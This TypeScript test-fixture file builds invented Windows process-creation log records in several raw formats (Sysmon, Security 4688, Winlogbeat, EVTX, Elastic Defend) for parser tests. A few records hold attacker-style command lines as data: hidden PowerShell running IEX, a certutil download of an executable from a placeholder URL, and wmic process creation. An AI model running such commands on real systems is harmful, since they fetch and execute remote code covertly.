/**
 * Hand-made records in each supported raw shape, for tests. Values are invented (they only
 * mimic the field layout of the public datasets, which must not be copied into the repo).
 */
import type { SourceRef } from '../../../common/types/process_event';

export const fileRef = (line = 1, file = 'test.ndjson'): SourceRef => ({
  kind: 'file',
  file,
  line,
  format: 'sysmon_flat',
});

/** NXLog-style flat Sysmon EID 1 (`host` is the collector; the endpoint is `Hostname`). */
export function nxlogSysmon(over: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    EventID: 1,
    SourceName: 'Microsoft-Windows-Sysmon',
    Channel: 'Microsoft-Windows-Sysmon/Operational',
    Hostname: 'WKS01.lab.example',
    host: 'collector.lab.example',
    EventTime: '2022-03-04 05:06:07',
    '@timestamp': '2022-03-04T10:06:08.500Z',
    RuleName: 'technique_id=T1059,technique_name=Command',
    UtcTime: '2022-03-04 10:06:07.250',
    ProcessGuid: '{AAAA0001-1111-2222-3333-444455556666}',
    ProcessId: '4242',
    Image: 'C:\\Windows\\System32\\cmd.exe',
    FileVersion: '10.0.1',
    Description: 'Windows Command Processor',
    Product: 'Microsoft Windows',
    Company: 'Microsoft Corporation',
    OriginalFileName: 'Cmd.Exe',
    CommandLine: '"C:\\Windows\\system32\\cmd.exe" /c "echo hi > out.txt"',
    CurrentDirectory: 'C:\\Users\\alice\\',
    User: 'LAB\\alice',
    IntegrityLevel: 'Medium',
    Hashes: 'SHA1=AB12,MD5=CD34,SHA256=EF56,IMPHASH=0123456789ABCDEF0123456789ABCDEF',
    ParentProcessGuid: '{AAAA0001-1111-2222-3333-000000000001}',
    ParentProcessId: '1000',
    ParentImage: 'C:\\Windows\\explorer.exe',
    ParentCommandLine: 'C:\\Windows\\Explorer.EXE',
    UserID: 'S-1-5-18',
    ...over,
  };
}

/** NXLog-style flat Security 4688 (hex PIDs, creator ProcessId = parent, local EventTime). */
export function nxlog4688(over: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    EventID: 4688,
    SourceName: 'Microsoft-Windows-Security-Auditing',
    Channel: 'Security',
    Hostname: 'WKS01.lab.example',
    host: 'collector.lab.example',
    // Local time, four hours behind UTC, whole seconds.
    EventTime: '2022-03-04 06:06:07',
    SubjectUserSid: 'S-1-5-21-1-2-3-1001',
    SubjectUserName: 'alice',
    SubjectDomainName: 'LAB',
    TargetUserSid: 'S-1-0-0',
    TargetUserName: '-',
    TargetDomainName: '-',
    NewProcessId: '0x1092',
    NewProcessName: 'C:\\Windows\\System32\\cmd.exe',
    TokenElevationType: '%%1938',
    MandatoryLabel: 'S-1-16-8192',
    ProcessId: '0x3e8',
    ParentProcessName: 'C:\\Windows\\explorer.exe',
    CommandLine: '"C:\\Windows\\system32\\cmd.exe" /c "echo hi &gt; out.txt"',
    ...over,
  };
}

/** Winlogbeat 6 shape: `host.name` is the WEC collector, `computer_name` the endpoint. */
export function wlb6Sysmon(over: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    '@timestamp': '2019-05-18T21:11:44.237Z',
    beat: { hostname: 'WECserver', name: 'WECserver' },
    host: { name: 'WECserver' },
    computer_name: 'HR001.shire.example',
    event_id: 1,
    log_name: 'Microsoft-Windows-Sysmon/Operational',
    source_name: 'Microsoft-Windows-Sysmon',
    user: { name: 'SYSTEM', domain: 'NT AUTHORITY', identifier: 'S-1-5-18' },
    event_data: {
      UtcTime: '2019-05-18 21:11:44.100',
      ProcessGuid: '{03ba39f5-7ba0-5ce0-0000-0010f6a62a00}',
      ProcessId: '5100',
      Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      CommandLine: 'powershell.exe -nop -w hidden -c "IEX 1"',
      User: 'SHIRE\\pgustavo',
      ParentProcessGuid: '{03ba39f5-7b00-5ce0-0000-0010aa000000}',
      ParentProcessId: '3000',
      ParentImage: 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe',
      ParentCommandLine: 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -Embedding',
      IntegrityLevel: 'High',
      Hashes: 'SHA256=AA',
    },
    ...over,
  };
}

export function wlb64688(over: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    '@timestamp': '2019-05-18T21:11:44.102Z',
    host: { name: 'WECserver' },
    computer_name: 'HR001.shire.example',
    event_id: 4688,
    log_name: 'Security',
    source_name: 'Microsoft-Windows-Security-Auditing',
    event_data: {
      NewProcessId: '0x13ec',
      NewProcessName: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      ProcessId: '0xbb8',
      ParentProcessName: 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe',
      CommandLine: 'powershell.exe -nop -w hidden -c "IEX 1"',
      SubjectUserName: 'HR001$',
      SubjectDomainName: 'SHIRE',
      SubjectUserSid: 'S-1-5-18',
      TargetUserName: 'pgustavo',
      TargetDomainName: 'SHIRE',
      TargetUserSid: 'S-1-5-21-9-9-9-1104',
      TokenElevationType: '%%1937',
      MandatoryLabel: 'S-1-16-12288',
    },
    ...over,
  };
}

/** EVTX flattened to System + EventData fields. */
export function evtxSysmon(over: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    EventID: 1,
    Provider: 'Microsoft-Windows-Sysmon',
    Channel: 'Microsoft-Windows-Sysmon/Operational',
    Computer: 'DESKTOP-X1',
    EventRecordID: '77',
    TimeCreated: '2020-01-02 03:04:05.678901',
    UtcTime: '2020-01-02 03:04:05.678',
    ProcessGuid: '{11111111-2222-3333-4444-555555555555}',
    ProcessId: '600',
    Image: 'C:\\Windows\\System32\\rundll32.exe',
    CommandLine: 'rundll32.exe shell32.dll,Control_RunDLL',
    ParentProcessGuid: '{11111111-2222-3333-4444-000000000000}',
    ParentProcessId: '500',
    ParentImage: 'C:\\Windows\\System32\\cmd.exe',
    ParentCommandLine: 'cmd.exe',
    User: 'DESKTOP-X1\\bob',
    IntegrityLevel: 'High',
    Hashes: 'MD5=00,SHA256=11',
    ...over,
  };
}

/** Elastic Defend process start. */
export function defendStart(over: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    '@timestamp': '2024-05-06T07:08:09.123Z',
    event: { category: ['process'], type: ['start'], action: 'start', id: 'NDef1', kind: 'event' },
    host: { name: 'srv-09', hostname: 'srv-09', os: { family: 'windows' } },
    process: {
      entity_id: 'YjQ1ZjE0OGEtOTBhZS00NzQ2LWI4ZjgtZmU5NWQ1N2Y3OGNiLTE=',
      pid: 7000,
      name: 'certutil.exe',
      executable: 'C:\\Windows\\System32\\certutil.exe',
      command_line: 'certutil.exe -urlcache -f http://x/y z.exe',
      args: ['certutil.exe', '-urlcache', '-f', 'http://x/y', 'z.exe'],
      working_directory: 'C:\\Temp\\',
      pe: { original_file_name: 'CertUtil.exe', imphash: 'ABC' },
      code_signature: { exists: true, trusted: true, subject_name: 'Microsoft Windows' },
      hash: { sha256: 'DEAD' },
      Ext: { token: { elevation: true, elevation_type: 'full', integrity_level_name: 'high' } },
      parent: {
        entity_id: 'cGFyZW50',
        pid: 6000,
        name: 'cmd.exe',
        executable: 'C:\\Windows\\System32\\cmd.exe',
      },
    },
    user: { name: 'carol', domain: 'CORP', id: 'S-1-5-21-5-5-5-500' },
    ...over,
  };
}

/** Winlogbeat 7 with the Sysmon module on a WEC collector. */
export function wlb7Sysmon(over: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    '@timestamp': '2021-02-03T04:05:06.789Z',
    event: {
      code: '1',
      provider: 'Microsoft-Windows-Sysmon',
      category: ['process'],
      type: ['start', 'process_start'],
      action: 'Process Create (rule: ProcessCreate)',
      module: 'sysmon',
    },
    host: { name: 'wec01' },
    winlog: {
      computer_name: 'APP02.corp.example',
      channel: 'Microsoft-Windows-Sysmon/Operational',
      event_id: '1',
      event_data: {
        IntegrityLevel: 'Medium',
        OriginalFileName: 'wmic.exe',
        Hashes: 'SHA1=AA,IMPHASH=FFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFF',
      },
    },
    process: {
      entity_id: '{9C0E1D2E-0001-0002-0003-000000000004}',
      pid: 321,
      executable: 'C:\\Windows\\System32\\wbem\\WMIC.exe',
      name: 'WMIC.exe',
      command_line: 'wmic process call create calc',
      parent: {
        entity_id: '{9C0E1D2E-0001-0002-0003-000000000001}',
        pid: 123,
        executable: 'C:\\Windows\\System32\\cmd.exe',
        name: 'cmd.exe',
      },
    },
    user: { name: 'dave', domain: 'CORP' },
    ...over,
  };
}
